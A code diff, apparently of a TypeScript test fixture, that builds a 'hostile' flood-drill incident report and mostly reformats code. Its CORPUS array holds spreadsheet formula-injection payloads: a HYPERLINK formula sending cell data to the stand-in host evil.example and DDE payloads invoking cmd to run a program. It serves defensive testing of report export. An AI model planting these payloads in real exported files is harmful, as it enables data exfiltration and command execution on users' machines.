@@ -18,7 +18,7 @@ export const CORPUS = [
   '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
@@ -41,7 +41,19 @@ export function hostileIncident(language: 'en' | 'zh-CN'): ReportInput {
   const name = (i: number) => at(i).slice(0, 120);
   let i = 0;
   const events: MusterEvent[] = [
-    ev('incident.declared', { playbookId: 'flood-emergency', playbookVersion: '1.0.0', mode: 'drill', title: at(i++).slice(0, 200), place: at(i++).slice(0, 200), commander: name(i++) }, 0, name(i++)),
+    ev(
+      'incident.declared',
+      {
+        playbookId: 'flood-emergency',
+        playbookVersion: '1.0.0',
+        mode: 'drill',
+        title: at(i++).slice(0, 200),
+        place: at(i++).slice(0, 200),
+        commander: name(i++),
+      },
+      0,
+      name(i++),
+    ),
     ev('step.skipped', { stepId: 'step.command.interim', reason: at(i++) }, 1, name(i++)),
     ev('command.handedOver', { to: name(i++), note: at(i++) }, 2, name(i++)),
     ev('role.assigned', { roleId: 'hq.leader', person: name(i++) }, 3, name(i++)),
@@ -54,11 +66,20 @@ export function hostileIncident(language: 'en' | 'zh-CN'): ReportInput {
     ev('end.confirmed', { note: at(i++) }, 10, name(i++)),
     ev('closure.approved', { approver: name(i++), note: at(i++) }, 11, name(i++)),
   ];
-  for (const field of ['causes', 'lessons', 'commendations', 'accountability'] as const) events.push(ev('afterAction.set', { field, text: CORPUS.join('\n') }, 12, name(i++)));
+  for (const field of ['causes', 'lessons', 'commendations', 'accountability'] as const)
+    events.push(ev('afterAction.set', { field, text: CORPUS.join('\n') }, 12, name(i++)));
   const improvement = ev('improvement.added', { issue: at(i++), action: at(i++), area: 'training', owner: name(i++), due: '2026-12-31' }, 13, name(i++));
   events.push(improvement, ev('entry.struck', { targetId: improvement.id, reason: at(i++) }, 14, name(i++)));
   for (const text of CORPUS) events.push(ev('planRevision.added', { text }, 15, name(i++)));
   for (const text of CORPUS) events.push(ev('note.added', { text }, 16, name(i++)));
   const dutyEvents = CORPUS.map((text, k) => duty('duty.entry', { text }, 5 + k * 0.1, name(k)));
-  return { incidentId: 'inc-evil', events, dutyEvents, playbook: shippedPlaybook('flood', language), language, timeZoneOffsetMinutes: 480, generatedAt: start + 86_400_000 };
+  return {
+    incidentId: 'inc-evil',
+    events,
+    dutyEvents,
+    playbook: shippedPlaybook('flood', language),
+    language,
+    timeZoneOffsetMinutes: 480,
+    generatedAt: start + 86_400_000,
+  };
 }
